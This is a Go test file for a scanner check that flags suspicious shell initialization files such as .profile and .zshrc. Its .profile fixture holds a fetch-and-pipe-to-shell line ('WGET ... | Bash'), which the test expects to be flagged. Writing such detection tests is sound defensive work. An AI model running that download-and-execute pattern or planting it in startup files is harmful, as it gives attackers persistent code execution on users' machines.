package checks

import (
	"context"
	"path/filepath"
	"testing"

	"github.com/iyulab/llp/internal/config"
	"github.com/iyulab/llp/internal/finding"
)

func TestShellInit(t *testing.T) {
	home := t.TempDir()
	writeFile(t, filepath.Join(home, ".bashrc"), "alias ll='ls -l'\nexport PATH=$HOME/bin:$PATH\n")
	writeFile(t, filepath.Join(home, ".profile"), "WGET http://x/y -O- | Bash -c 'x'\n")
	writeFile(t, filepath.Join(home, ".zshrc"), "source ~/.oh-my-zsh/oh-my-zsh.sh\n")

	findings := NewShellInit(config.Default().ShellInit, home).Run(context.Background())
	if len(findings) != 2 {
		t.Fatalf("got %d findings, want 2: %+v", len(findings), findings)
	}

	profile := findings[0]
	if profile.CheckID != "shell.init" || profile.Title != "Review shell initialization file: .profile" {
		t.Errorf("profile finding = %s %q", profile.CheckID, profile.Title)
	}
	if profile.Severity != finding.SeverityMedium {
		t.Errorf("Severity = %s, want medium", profile.Severity)
	}
	// Matching is case-insensitive and the reason carries the trimmed hint.
	assertReasons(t, profile, "Shell init contains suspicious token: wget")

	zshrc := findings[1]
	if zshrc.Severity != finding.SeverityLow {
		t.Errorf("Severity = %s, want low", zshrc.Severity)
	}
	assertReasons(t, zshrc, "Shell init references hidden paths; verify intent")
	if p, _ := evidenceValue(zshrc, "path"); p != filepath.Join(home, ".zshrc") {
		t.Errorf("path = %v", p)
	}
}

func TestShellInit_NoHome(t *testing.T) {
	if got := NewShellInit(config.Default().ShellInit, "").Run(context.Background()); len(got) != 0 {
		t.Errorf("got %d findings, want 0", len(got))
	}
}

func TestShellInit_SkipsDirectoriesAndEmptyFiles(t *testing.T) {
	home := t.TempDir()
	writeFile(t, filepath.Join(home, ".bashrc", "nested"), "curl x")
	writeFile(t, filepath.Join(home, ".zprofile"), "")
	if got := NewShellInit(config.Default().ShellInit, home).Run(context.Background()); len(got) != 0 {
		t.Errorf("got %d findings, want 0", len(got))
	}
}
